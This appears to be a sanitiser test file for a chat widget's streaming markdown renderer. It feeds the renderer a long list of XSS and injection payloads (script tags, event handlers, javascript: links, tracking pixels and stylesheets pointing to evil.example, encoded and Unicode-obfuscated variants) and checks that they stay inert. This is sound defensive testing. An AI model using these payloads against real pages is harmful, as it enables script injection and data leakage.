import { expect } from 'chai';
import { createTextFlow } from '../../../widget/markdown/text-flow.ts';

const HARM = 'window.harmed=true';

const attacks: readonly string[] = [
  `<script>${HARM}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${HARM}</scr</script>ipt>`,
  `<img src=x onerror="${HARM}">`,
  `<img src="https://evil.example/pixel.png?leak">`,
  `<img srcset="https://evil.example/a 1x">`,
  `<svg onload="${HARM}"><animate onbegin="${HARM}"/></svg>`,
  `<svg><script>${HARM}</script></svg>`,
  `<svg><use href="https://evil.example/#x"/></svg>`,
  `<math><mtext><style><img src onerror=${HARM}></style></mtext></math>`,
  `<iframe srcdoc="<script>parent.harmed=true</script>"></iframe>`,
  `<iframe src="javascript:${HARM}"></iframe>`,
  `<object data="data:text/html,<script>${HARM}</script>"></object>`,
  `<embed src="javascript:${HARM}">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";*{display:none}</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><input name=a autofocus onfocus="${HARM}"></form>`,
  `<details open ontoggle="${HARM}">x</details>`,
  `<video src=x onerror="${HARM}"><source onerror="${HARM}"></video>`,
  `<audio src="https://evil.example/a.mp3" autoplay></audio>`,
  `<body onload="${HARM}">`,
  `<template><img src=x onerror=${HARM}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${HARM}>"></noscript>`,
  `<!--><img src=x onerror=${HARM}>-->`,
  `<![CDATA[<img src=x onerror=${HARM}>]]>`,
  `</p></div></body><script>${HARM}</script>`,
  `&lt;script&gt;${HARM}&lt;/script&gt;`,
  `&#60;img src=x onerror=${HARM}&#62;`,
  `&#x3C;script&#x3E;${HARM}`,
  `\\u003cscript\\u003e${HARM}`,
  `%3Cscript%3E${HARM}%3C/script%3E`,
  `\u{FF1C}script\u{FF1E}${HARM}`,
  `[x](javascript:${HARM})`,
  `[x](JAVASCRIPT:${HARM})`,
  `[x](java\nscript:${HARM})`,
  `[x](java\tscript:${HARM})`,
  `[x](\u0001javascript:${HARM})`,
  `[x](&#106;avascript:${HARM})`,
  `[x](javascript&colon;${HARM})`,
  `[x](javascript://evil.example/%0A${HARM})`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  `[x](vbscript:msgbox)`,
  `[x](blob:https://evil.example/1)`,
  `[x](file:///etc/passwd)`,
  `[x](https://user:word@evil.example/)`,
  `[x](https://bank.example@evil.example/)`,
  `[x](//evil.example/)`,
  `[x](https://evil.example/"onmouseover="${HARM})`,
  `[x](https://evil.example/ "title" onclick=${HARM})`,
  `[x](<javascript:${HARM}>)`,
  `[x][1]\n\n[1]: javascript:${HARM}`,
  `[<img src=x onerror=${HARM}>](https://a.example/)`,
  `[![y](https://evil.example/pixel.png)](javascript:${HARM})`,
  `![y](https://evil.example/pixel.png)`,
  `![y](x" onerror="${HARM})`,
  `![y](javascript:${HARM})`,
  `![](data:image/svg+xml,<svg onload=${HARM}>)`,
  `<https://evil.example/>`,
  `<javascript:${HARM}>`,
  `https://evil.example/pixel.png`,
  '`<script>' + HARM + '</script>`',
  '```html\n<script>' + HARM + '</script>\n```',
  `**<img src=x onerror=${HARM}>**`,
  `- <img src=x onerror=${HARM}>`,
  `# <img src=x onerror=${HARM}>`,
  `| <script>${HARM}</script> |\n|---|`,
  `> <iframe src=https://evil.example/>`,
  '${' + HARM + '}',
  `{{constructor.constructor("${HARM}")()}}`,
  `<?php echo 1 ?><%= ${HARM} %>`,
  `<!DOCTYPE html><html><head></head></html>`,
  `<x-y is="rag-chat" onclick=${HARM}></x-y>`,
  `<rag-chat api="https://evil.example"></rag-chat>`,
  `<slot name=x></slot><p slot=x>`,
  `\u202Egnissim olleg nis\u202C`,
  `sin\u200Bgluten\u2060\uFEFF`,
  `\u2066sin\u2069 \u2067gluten\u2069`,
  `a\u{E0001}\u{E0073}\u{E006E}b`,
  `\u0000\u0007\u001B[31mrojo\u009B`,
  `e${'\u0301'.repeat(200)}`,
  `\uD83D\uDE00\uD83D`,
  `${'*'.repeat(400)}x`,
  `${'['.repeat(400)}x${']('.repeat(200)}`,
  '`'.repeat(300),
  '**a '.repeat(100),
  '[1]'.repeat(200),
  `[99][0][-1][1e9][__proto__][constructor]`,
  `__proto__ **constructor** _toString_`,
];

/** What stands around an attack may make it one. */
const dressings: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `Lleva **crema ${attack} de** leche [1]`,
  (attack) => `- uno\n- *dos* ${attack}\n\n# ${attack}`,
  (attack) => `\`a\` [carta](https://a.example/) ${attack}[2]\n1. ${attack}`,
];

const ALLOWED = ['p', 'ul', 'ol', 'li', 'strong', 'em', 'code', 'a', 'span', 'sup'];
const ATTRIBUTES: Record<string, RegExp> = {
  href: /^(?:https?:\/\/(?:a|evil)\.example\/|mailto:|tel:)/u,
  target: /^_blank$/u,
  rel: /^noopener noreferrer nofollow$/u,
  class: /^(?:held|leads-to)$/u,
  dir: /^ltr$/u,
  value: /^\d{1,3}$/u,
};

describe('a hostile text in an answer', () => {
  let root: HTMLElement;

  beforeEach(() => {
    root = document.createElement('div');
    document.body.append(root);
  });
  afterEach(() => {
    root.remove();
  });

  function flow(...pieces: string[]): void {
    root.replaceChildren();
    const text = createTextFlow(root, (place) => (place < 3 ? document.createElement('sup') : undefined));
    pieces.forEach(text.append);
    text.end();
  }

  function strangers(): string[] {
    return [...root.querySelectorAll('*')].flatMap((element) => [
      ...(ALLOWED.includes(element.localName) ? [] : [element.localName]),
      ...[...element.attributes]
        .filter(({ name, value }) => ATTRIBUTES[name]?.test(value) !== true)
        .map(({ name, value }) => `${name}=${value}`),
    ]);
  }

  it('stays text in all of its dresses, whole or in pieces, and asks for nothing', async () => {
    const asked = performance.getEntriesByType('resource').length;
    const texts = attacks.flatMap((attack) => dressings.map((dress) => dress(attack)));
    expect(texts.length).to.be.greaterThan(300);
    for (const text of texts) {
      flow(text);
      expect(strangers(), text).to.deep.equal([]);
      const whole = root.cloneNode(true);
      flow(...text.split(''));
      expect(strangers(), text).to.deep.equal([]);
      expect(root.isEqualNode(whole), text).to.equal(true);
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect('harmed' in window).to.equal(false);
    expect(performance.getEntriesByType('resource').length).to.equal(asked);
  });

  it('is none the worse for being cut anywhere', () => {
    for (const attack of attacks.filter((_, place) => place % 5 === 0)) {
      const text = `Lleva **pan** [1]\n- ${attack} [2]`;
      flow(text);
      const whole = root.cloneNode(true);
      for (let cut = 1; cut < text.length; cut += 1) {
        flow(text.slice(0, cut), text.slice(cut));
        expect(root.isEqualNode(whole), text.slice(0, cut)).to.equal(true);
      }
      expect(strangers()).to.deep.equal([]);
    }
  });

  it('keeps its letters in sight and in their order', () => {
    flow('\u202Enetulg nis\u202C \u2067x\u2069 a\u200Bb');
    expect(root.textContent).to.equal('netulg nis x ab');
  });
});
